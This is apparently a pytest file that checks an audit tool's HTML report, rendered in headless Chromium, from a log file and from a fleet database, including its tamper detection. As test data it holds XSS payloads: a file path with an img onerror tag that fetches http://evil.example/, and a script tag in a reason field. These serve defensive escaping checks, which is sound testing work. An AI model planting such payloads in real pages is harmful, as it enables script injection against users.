"""``audit report --html``: rendered by headless Chromium (screenshot + the DOM the browser built), from a file log and
from the fleet database; self-contained, and hostile names from the log stay text."""

from __future__ import annotations

import re
from collections import Counter
from pathlib import Path

import pytest

import gatekeeper.audit.log as audit_log
from audit.helpers import decision, make_env
from chromium import Dom, dump_dom, screenshot
from gatekeeper.audit import pgstore
from gatekeeper.audit.ship import ship
from pgserver import FleetDb

from .fleetlib import gatekeeper

pytestmark = pytest.mark.timeout(300)

HOSTILE = 'models/<img src=x onerror="fetch(`http://evil.example/`)">.py'
DAY = 86400
T0 = 1_795_910_400  # 2026-11-29T00:00:00Z


def _event(i: int, kind: str) -> dict[str, object]:
    ev = decision(i, user={"deny": "carol", "break-glass": "dave"}.get(kind, "alice"), decision=kind,
                  paths=("models/llama/modeling.py", HOSTILE) if kind == "deny" else ("models/llama/modeling.py",))
    upd = ev["updates"][0]  # type: ignore[index]
    ev["blocked"] = kind in ("deny", "error")
    if kind == "allow":
        upd["approvals"] = [{"person": "bob", "rule": "model-code"}]
    if kind == "monitor":
        ev.update(decision="deny", blocked=False, mode="monitor")
        upd["decision"] = "deny"
    if kind == "break-glass":
        upd["decision"] = "deny"
        ev["break_glass"] = {"by": "dave", "reason": "prod down </style><script>alert(1)</script>"}
    if kind == "deny":
        upd["missing"] = [{"rule": "model-code", "needed": 1, "have": 0}]
    return ev


# (day offset, kind): 3 days of pushes
PLAN = [(0, "allow"), (0, "deny"), (0, "allow"), (1, "monitor"), (1, "break-glass"), (1, "deny"), (2, "allow"),
        (2, "error"), (2, "deny")]


def _write_log(folder: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    folder.mkdir(parents=True)
    env = make_env(folder)
    writer = env.writer()
    real = audit_log.utc_timestamp
    for i, (day, kind) in enumerate(PLAN):
        monkeypatch.setattr(audit_log, "utc_timestamp", lambda now=None, t=T0 + day * DAY + i * 60: real(t))
        writer.append(_event(i, kind))
    monkeypatch.setattr(audit_log, "utc_timestamp", real)
    return env


def _check_dom(dom: Dom, *, per_node: int = 1) -> None:
    # The chart: one stack per day, segments matching the plan.
    bars = dom.find("rect", **{"class": "bar"})
    counted = Counter()
    for bar in bars:
        counted[(bar["data-bucket"], bar["data-kind"])] += int(bar["data-count"])
    expected = Counter()
    for day, kind in PLAN:
        expected[(f"2026-11-{29 + day:02d}" if day < 2 else "2026-12-01", kind)] += per_node
    assert counted == expected
    assert dom.find("svg", id="decisions-chart")
    # Refusals by rule, path, person (monitor and break-glass are not refusals; errors are).
    assert dom.rows("refusals-by-rule") == [["model-code", str(4 * per_node)]]
    assert ["carol", str(3 * per_node)] in dom.rows("refusals-by-person")
    assert [HOSTILE, str(3 * per_node)] in dom.rows("refusals-by-path")  # shown as text, never as markup
    unreviewed = dom.rows("unreviewed")
    assert len(unreviewed) == per_node and unreviewed[0][3] == "dave"
    assert unreviewed[0][4] == "prod down </style><script>alert(1)</script>"
    assert dom.rows("approvals-by-reviewer") == [["bob", str(3 * per_node), "ml/llama"]]
    protected = dom.rows("protected-paths")
    assert protected[0][0] == "models/llama/modeling.py" and protected[0][2] == str(5 * per_node)
    assert protected[0][3] == f"alice ({4 * per_node}), dave ({per_node})"
    assert dom.text_by_id["tile-monitor"].startswith(str(per_node))
    # Nothing active made it into the page.
    assert not dom.find("script") and not dom.find("img") and not dom.find("iframe")


def _no_network(html: str) -> None:
    assert "default-src 'none'" in html
    assert set(re.findall(r"https?://[^\s\"'<>`]+", html)) <= {"http://www.w3.org/2000/svg", "http://evil.example/"}
    assert "http://evil.example/" not in re.sub(r"&lt;img.*?&gt;", "", html)  # only inside the escaped path text


def test_report_from_a_file_log_renders_in_chromium(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    env = _write_log(tmp_path / "node", monkeypatch)
    trusted = tmp_path / "last-audit.checkpoint"
    trusted.write_bytes(env.checkpoint.read_bytes())
    page = tmp_path / "report.html"
    out = gatekeeper("audit", "report", "--log", env.log_path, "--vkey", env.vkey, "--trusted-checkpoint", trusted,
                     "--html", page, check=True)
    assert "9 record(s), verified" in out.stdout
    html = page.read_text()
    _no_network(html)
    dom = Dom(dump_dom(page))
    _check_dom(dom)
    verify = dom.find("div", **{"class": "verify"})
    assert [v["data-ok"] for v in verify] == ["true"]
    assert f"trusted checkpoint {trusted}" in dom.text_by_id["verify"].replace("\n", " ")
    assert "size 9" in dom.text_by_id["verify"]
    png = screenshot(page, tmp_path / "report.png")
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 20_000

    # --since/--repo narrow what is counted; a failed verification shows and fails the command.
    narrowed = gatekeeper("audit", "report", "--log", env.log_path, "--vkey", env.vkey, "--since", "2026-12-01",
                          "--html", tmp_path / "since.html", check=True)
    assert "3 record(s)" in narrowed.stdout
    lines = env.log_path.read_bytes().splitlines(keepends=True)
    lines[2] = lines[2].replace(b'"alice"', b'"mallory"')
    env.log_path.write_bytes(b"".join(lines))
    failed = gatekeeper("audit", "report", "--log", env.log_path, "--vkey", env.vkey, "--trusted-checkpoint", trusted,
                        "--html", tmp_path / "bad.html")
    assert failed.returncode == 1 and "VERIFY FAILED" in failed.stdout
    bad = Dom(dump_dom(tmp_path / "bad.html"))
    assert bad.text_by_id["tile-verify"].startswith("FAILED")
    assert "chain-break" in bad.text_by_id["verify"]


def test_report_from_the_fleet_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fleet_db: FleetDb) -> None:
    envs = [_write_log(tmp_path / name, monkeypatch) for name in ("node-1", "node-2")]
    with pgstore.connect(fleet_db.writer_url) as conn:
        for name, env in zip(("node-1", "node-2"), envs):
            ship(env.log_path, conn, node=name)
    page = tmp_path / "fleet.html"
    vkeys = [arg for env in envs for arg in ("--vkey", env.vkey)]
    out = gatekeeper("audit", "report", "--db", fleet_db.reader_url, *vkeys, "--html", page, check=True)
    assert "18 record(s), verified" in out.stdout
    _no_network(page.read_text())
    dom = Dom(dump_dom(page))
    _check_dom(dom, per_node=2)
    assert [h for h in re.findall(r"node node-\d", dom.text_by_id["verify"])] == ["node node-1", "node node-2"]
    assert [r[0].split()[0] for r in dom.rows("unreviewed")] == ["node-1", "node-2"]
    screenshot(page, tmp_path / "fleet.png")
